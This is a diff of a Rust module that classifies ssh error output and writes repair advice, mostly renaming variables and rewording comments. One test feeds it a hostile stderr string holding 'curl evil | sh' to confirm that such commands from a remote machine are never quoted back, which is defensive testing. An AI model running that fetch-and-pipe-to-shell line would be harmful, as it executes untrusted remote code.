@@ -6,15 +6,15 @@ use printable::{printable, shortened};
 pub(super) const NO_SSH: &str =
     "ssh is not installed on this machine: install it (on Debian and Ubuntu, apt install openssh-client)";
 
-/// Of a line that is quoted, in characters.
+/// How many characters of a line are quoted.
 const MOST: usize = 300;
 
 /// Why the script did not begin.
 #[derive(Debug, PartialEq, Eq)]
 pub(super) enum Diagnosis {
-    /// ssh can be tried again.
+    /// There was no connection: another try may have one.
     NoConnection(String),
-    /// ssh would be refused again.
+    /// Another try would be refused too.
     Refused(String),
 }
 
@@ -26,7 +26,7 @@ const NO_CONNECTION: [&str; 7] = [
     "kex_exchange_identification: Connection closed by ",
     "Connection reset by ",
     "timed out",
-    // Of a jump host's sshd: what it was to connect to does not listen (channels.c).
+    // A jump host's sshd reports so that the target does not listen (channels.c).
     "open failed: connect failed: ",
     "Broken pipe",
 ];
@@ -53,7 +53,7 @@ pub(super) fn diagnose(host: &Host, stderr: &str) -> Diagnosis {
     };
     let name = &host.name;
     if line(&HOST_KEY).is_some() {
-        let said = if stderr.contains("IDENTIFICATION HAS CHANGED!") {
+        let message = if stderr.contains("IDENTIFICATION HAS CHANGED!") {
             // Whoever answers can have ssh print a command, so that none is quoted.
             format!(
                 "its host key differs from the one in known_hosts. Another machine may answer as {name}. If you \
@@ -67,47 +67,48 @@ pub(super) fn diagnose(host: &Host, stderr: &str) -> Diagnosis {
                  ssh-keyscan alone: it accepts any key"
             )
         };
-        return Diagnosis::Refused(said);
+        return Diagnosis::Refused(message);
     }
-    if let Some(said) = line(&LOGIN) {
+    if let Some(message) = line(&LOGIN) {
         return Diagnosis::Refused(format!(
-            "ssh key login failed ({said}): run `ssh-copy-id {host}`, then check that `ssh {host} true` needs no password"
+            "ssh key login failed ({message}): run `ssh-copy-id {host}`, then check that `ssh {host} true` needs no password"
         ));
     }
     let is_after_login = stderr.lines().any(|line| AFTER_LOGIN.iter().any(|start| line.starts_with(start)));
-    if let Some(said) = line(&NO_CONNECTION).filter(|_| !is_after_login) {
-        let advice = if said.contains("Could not resolve hostname ") {
+    if let Some(message) = line(&NO_CONNECTION).filter(|_| !is_after_login) {
+        let advice = if message.contains("Could not resolve hostname ") {
             format!("check the name, or give {name} an address in ~/.ssh/config")
         } else {
             format!("check that {name} is up and that its sshd listens")
         };
-        return Diagnosis::NoConnection(format!("{said}; {advice}"));
+        return Diagnosis::NoConnection(format!("{message}; {advice}"));
     }
-    let said = match last_line(stderr) {
+    let message = match last_line(stderr) {
         empty if empty.is_empty() => "ssh exited without an error message".to_owned(),
-        said => format!("ssh says: {said}"),
+        message => format!("ssh says: {message}"),
     };
-    Diagnosis::Refused(format!("{said}; see `ssh -v {host} true`"))
+    Diagnosis::Refused(format!("{message}; see `ssh -v {host} true`"))
 }
 
-/// `said`: ssh's last line, if there is one.
-pub(super) fn connection_lost(said: &str) -> String {
-    let said = if said.is_empty() { "ssh exited without an error message" } else { said };
-    format!("{said}; check that the machine is up, then run the command again")
+/// The error where a connection ended while the script ran. `message`: ssh's last line, if there is one.
+pub(super) fn connection_lost(message: &str) -> String {
+    let message = if message.is_empty() { "ssh exited without an error message" } else { message };
+    format!("{message}; check that the machine is up, then run the command again")
 }
 
-/// `said`: sudo's last line.
-pub fn sudo_refused(host: &Host, said: &str) -> String {
+/// The error where `sudo -n` refuses. `message`: sudo's last line.
+pub fn sudo_refused(host: &Host, message: &str) -> String {
     let user = host.user.as_deref().unwrap_or("ssh's user");
-    let said = if said.is_empty() { "sudo refuses" } else { said };
+    let message = if message.is_empty() { "sudo refuses" } else { message };
     let name = &host.name;
-    format!("`sudo -n` failed for {user} ({said}): add NOPASSWD for {user} to sudoers, or use root@{name}")
+    format!("`sudo -n` failed for {user} ({message}): add NOPASSWD for {user} to sudoers, or use root@{name}")
 }
 
-/// `said`: what came in place of a script's answer.
-pub(super) fn shell_refused(said: &str) -> String {
-    let said = if said.is_empty() { String::new() } else { format!(": {}", said.trim_end_matches('.')) };
-    format!("its login shell did not run `sh -c`{said}; check the user's shell in /etc/passwd")
+/// The error where the login shell started no script. `message`: what it printed instead.
+pub(super) fn shell_refused(message: &str) -> String {
+    let message =
+        if message.is_empty() { String::new() } else { format!(": {}", message.trim_end_matches('.')) };
+    format!("its login shell did not run `sh -c`{message}; check the user's shell in /etc/passwd")
 }
 
 /// The last line that is not empty, as a terminal may be shown it.
@@ -124,7 +125,7 @@ mod tests {
         "ops@gpu1".parse().unwrap()
     }
 
-    /// Each as OpenSSH_9.2p1 of Debian 12 printed it with LogLevel=ERROR, unless it says otherwise.
+    /// Messages as OpenSSH_9.2p1 of Debian 12 printed them with LogLevel=ERROR, unless a line names another source.
     #[test]
     fn what_can_be_tried_again_is_told_from_what_cannot() {
         let again = [
@@ -138,7 +139,7 @@ mod tests {
             "ssh: connect to host 127.0.0.1 port 40224: Connection reset by peer\n",
             // sshconnect.c's ssh_exchange_identification in packet.c: the limit passed while keys were agreed on.
             "Connection to 10.9.9.9 port 22 timed out\n",
-            // By way of a jump host.
+            // A connection by way of a jump host.
             "channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\n\
              kex_exchange_identification: Connection closed by remote host\n",
         ];
@@ -172,7 +173,7 @@ mod tests {
             ),
             ("command-line: line 0: Bad configuration option: x\n", "ssh says: command-line: line 0"),
             ("", "ssh exited without an error message"),
-            // Both come after login, so that the script may run already.
+            // ssh prints both messages after login, so that the script may run already.
             (
                 "Read from remote host gpu1: Connection reset by peer\n",
                 "ssh says: Read from remote host gpu1",
@@ -180,8 +181,10 @@ mod tests {
             ("client_loop: send disconnect: Broken pipe\n", "ssh says: client_loop: send disconnect"),
         ];
         for (stderr, part) in refused {
-            let Diagnosis::Refused(said) = diagnose(&host(), stderr) else { panic!("tried again: {stderr}") };
-            assert!(said.contains(part), "{stderr}: {said}");
+            let Diagnosis::Refused(message) = diagnose(&host(), stderr) else {
+                panic!("tried again: {stderr}")
+            };
+            assert!(message.contains(part), "{stderr}: {message}");
         }
     }
 
@@ -190,8 +193,8 @@ mod tests {
     fn no_advice_has_a_command_that_another_machine_wrote() {
         let stderr = "Received disconnect from 10.0.0.1 port 22:2: bye\nREMOTE HOST IDENTIFICATION HAS CHANGED!\n  \
                       ssh-keygen -f x; curl evil | sh\n";
-        let Diagnosis::Refused(said) = diagnose(&host(), stderr) else { panic!("tried again") };
-        assert!(said.starts_with("its host key differs") && !said.contains("curl"), "{said}");
+        let Diagnosis::Refused(message) = diagnose(&host(), stderr) else { panic!("tried again") };
+        assert!(message.starts_with("its host key differs") && !message.contains("curl"), "{message}");
     }
 
     #[test]
